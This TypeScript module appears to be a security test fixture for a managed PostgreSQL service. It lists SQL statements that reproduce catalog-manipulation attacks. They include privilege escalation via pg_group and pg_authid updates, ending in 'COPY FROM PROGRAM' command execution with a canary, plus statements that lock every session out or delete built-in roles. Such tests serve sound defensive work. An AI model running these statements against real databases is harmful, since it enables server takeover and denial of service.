import { MASTER, type Target } from './target.ts';

/** The state that roles.sql of 0.1 left: only three roles have the mark. */
export const withoutGuard = `
  UPDATE pg_authid SET rolsuper = rolname IN ('pg_execute_server_program', 'pg_read_server_files', 'pg_write_server_files')
    AND current_setting('server_version_num')::int < 160000
  WHERE oid < 10000 AND oid <> 10;`;

/** Fault 1 of the attack on f796a9c, statement by statement. */
export function wayOut({ canaries }: Pick<Target, 'canaries'>): readonly string[] {
  return [
    `GRANT pg_write_all_data TO ${MASTER}`,
    'CREATE ROLE evil NOLOGIN',
    `UPDATE pg_catalog.pg_group SET grosysid=90001 WHERE groname='pg_execute_server_program'`,
    `UPDATE pg_catalog.pg_group SET grosysid=4571 WHERE groname='evil'`,
    `GRANT evil TO ${MASTER}`,
    'CREATE TABLE o(t text)',
    `COPY o FROM PROGRAM '${canaries.program}'`,
  ];
}

/** The same kind of fault: other views on shared catalogs, and locks that lock every session out. */
export const alsoByViews: readonly string[] = [
  `UPDATE pg_stat_database_conflicts SET datname='gone' WHERE datname='rdsadmin'`,
  'LOCK TABLE pg_group IN ACCESS EXCLUSIVE MODE',
  `UPDATE pg_catalog.pg_group SET groname='pg_monitor2' WHERE groname='pg_monitor'`,
  `DELETE FROM pg_catalog.pg_group WHERE groname='pg_checkpoint'`,
];
